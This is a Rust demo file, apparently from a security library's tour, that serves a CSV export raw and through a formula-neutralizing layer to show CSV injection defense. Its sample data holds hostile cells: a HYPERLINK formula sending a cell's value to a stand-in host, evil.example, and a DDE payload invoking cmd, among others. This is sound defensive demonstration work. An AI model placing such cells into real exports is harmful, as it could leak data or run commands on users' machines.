//! Tour stop: a CSV export with hostile cells, raw and through `CsvExport`.

use std::sync::{Arc, Mutex};

use axum::Router;
use axum::http::header;
use axum::routing::get;
use safeguard::export::{CsvExportLayer, ExportSummary};

use super::http::{Error, heading, send, serve};

/// What users stored: a formula that phones home, a DDE payload padded with spaces, a full-width
/// `=`, a TAB-led formula, and benign values that must stay as they are.
const EXPORT: &str = "id,name,comment\r\n\
1,mallory,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\"\r\n\
2,eve,\"  @SUM(1+1)*cmd|' /C calc'!A0\"\r\n\
3,\u{ff1d}1+1,\"\t=1+1\"\r\n\
4,bob,-12.50\r\n\
5,alice,foo@example.org\r\n";

/// Runs the stop.
pub async fn run() -> Result<(), Error> {
    heading("CsvExport: spreadsheet formulas neutralized as the export streams");
    let summary = Arc::new(Mutex::new(String::new()));
    let sink = summary.clone();
    let handler = || async { ([(header::CONTENT_TYPE, "text/csv; charset=utf-8")], EXPORT) };
    let app = Router::new().route("/raw/export.csv", get(handler)).merge(
        Router::new()
            .route("/export.csv", get(handler))
            .layer(CsvExportLayer::new().on_end(move |s: &ExportSummary| {
                if let Ok(mut line) = sink.lock() {
                    *line = format!(
                        "    (on_end: {} of {} cells neutralized)",
                        s.neutralized, s.cells
                    );
                }
            })),
    );
    let addr = serve(app).await?;

    let raw = send(addr, "GET", "/raw/export.csv", &[], "").await?;
    println!("  without the layer, the spreadsheet would run these cells:");
    for line in raw.text().lines() {
        println!("    < {}", line.replace('\t', "\\t"));
    }
    let safe = send(addr, "GET", "/export.csv", &[], "").await?;
    println!("  through CsvExport ({}):", safe.status);
    for line in safe.text().lines() {
        println!("    < {}", line.replace('\t', "\\t"));
    }
    println!(
        "    x-content-type-options: {:?}, content-length: {:?}",
        safe.headers.get("x-content-type-options"),
        safe.headers.get("content-length")
    );
    if let Ok(line) = summary.lock() {
        println!("{line}");
    }
    Ok(())
}
